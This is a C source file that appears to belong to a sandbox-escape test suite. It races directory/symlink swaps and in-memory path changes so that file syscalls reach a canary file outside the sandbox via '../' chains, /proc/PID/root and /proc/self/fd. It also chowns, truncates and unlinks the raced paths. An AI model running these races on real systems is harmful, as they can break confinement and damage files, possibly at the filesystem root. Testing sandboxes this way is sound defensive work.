/* Names that lead elsewhere between the look and the use: directories that become links,
 * and paths that change in memory, for the calls that others carry out for a step. That
 * the machine's file stays what it is, and alone, is looked at from outside. */
#include <fcntl.h>
#include <libgen.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "hostile.h"

/* Looks alone come first: changes could take the token away. */
#define LOOKS  5000
#define ROUNDS 1000

/* All that changes or makes something at PATH. Outside of a sandbox that could be any part
 * of a path that another thread writes: the machine's root, even. */
static void
change_all(const char *path)
{
	struct stat st;
	int fd = -1;

	if (getenv("LOOKS_ONLY") != NULL)
		return;
	syscall(SYS_stat, path, &st);
	chown(path, 12, 34);
	lchown(path, 56, 78);
	fchownat(AT_FDCWD, path, 1, 1, 0);
	chmod(path, 0600);
	utimensat(AT_FDCWD, path, NULL, 0);
	truncate(path, 0);
	setxattr(path, "user.cooper", "x", 1, 0);
	mkdir(path, 0755);
	mknod(path, S_IFIFO | 0644, 0);
	symlink("x", path);
	fd = open(path, O_CREAT | O_WRONLY | O_NONBLOCK | O_NOFOLLOW, 0644);
	if (fd >= 0)
		close(fd);
	unlink(path);
	rmdir(path);
}

/* ------------------------------------------------------------ directories */

/* Where "d" is a directory in one moment and a link in the next. */
static void *
exchange(void *unused)
{
	(void)unused;
	for (;;) {
		if (renameat2(AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) == 0)
			continue;
		rename("d", "x");
		rename("l", "d");
		rename("d", "l");
		rename("x", "d");
	}
	return NULL;
}

static bool
reaches_through(const char *link)
{
	char file[256], made[64], place[] = "/race-XXXXXX", canary[512];
	pthread_t thread;

	snprintf(canary, sizeof canary, "%s", aim.canary);
	snprintf(file, sizeof file, "d/%s", basename(canary));
	if (mkdtemp(place) == NULL || chdir(place) < 0 || mkdir("d", 0755) < 0 ||
	    symlink(link, "l") < 0 || pthread_create(&thread, NULL, exchange, NULL) != 0)
		return false;
	for (int i = 0; i < LOOKS; i++)
		if (reads(file))
			return true;
	for (int i = 0; i < ROUNDS; i++) {
		snprintf(made, sizeof made, "d/made-%d", i);
		change_all(file);
		change_all(made);
	}
	return false;
}

static bool
directory_becomes_link_upwards(void)
{
	char canary[512], link[1024] = "";

	for (int i = 0; i < 32; i++)
		strcat(link, "../");
	snprintf(canary, sizeof canary, "%s", aim.canary);
	strcat(link, dirname(canary) + 1);
	return reaches_through(link);
}

static bool
directory_becomes_link_into_process(void)
{
	char canary[512], link[1024];

	snprintf(canary, sizeof canary, "%s", aim.canary);
	snprintf(link, sizeof link, "/proc/%d/root%s", aim.victim, dirname(canary));
	return reaches_through(link);
}

static bool
directory_becomes_descriptor(void)
{
	char canary[512], link[1024];
	int fd = open("/proc", O_PATH | O_DIRECTORY);

	snprintf(canary, sizeof canary, "%s", aim.canary);
	snprintf(link, sizeof link, "/proc/self/fd/%d/..%s", fd, dirname(canary));
	return reaches_through(link);
}

/* ------------------------------------------------------------ paths in memory */

static char shown[512], inside[512], outside[512];

static void *
alternate(void *unused)
{
	(void)unused;
	for (;;) {
		memcpy(shown, outside, sizeof shown);
		PUBLISH();
		memcpy(shown, inside, sizeof shown);
		PUBLISH();
	}
	return NULL;
}

static bool
path_becomes_one_into_process(void)
{
	pthread_t thread;

	snprintf(outside, sizeof outside, "/proc/%d/root%s", aim.victim, aim.canary);
	snprintf(inside, sizeof inside, "/race-file");
	memcpy(shown, inside, sizeof shown);
	if (pthread_create(&thread, NULL, alternate, NULL) != 0)
		return false;
	for (int i = 0; i < LOOKS; i++)
		if (reads(shown))
			return true;
	for (int i = 0; i < ROUNDS; i++)
		change_all(shown);
	return false;
}

const struct try tries_of_races[] = {
	{ "directory-becomes-link-upwards", directory_becomes_link_upwards },
	{ "directory-becomes-link-into-process", directory_becomes_link_into_process },
	{ "directory-becomes-descriptor", directory_becomes_descriptor },
	{ "path-becomes-one-into-process", path_becomes_one_into_process },
	{ NULL, NULL },
};
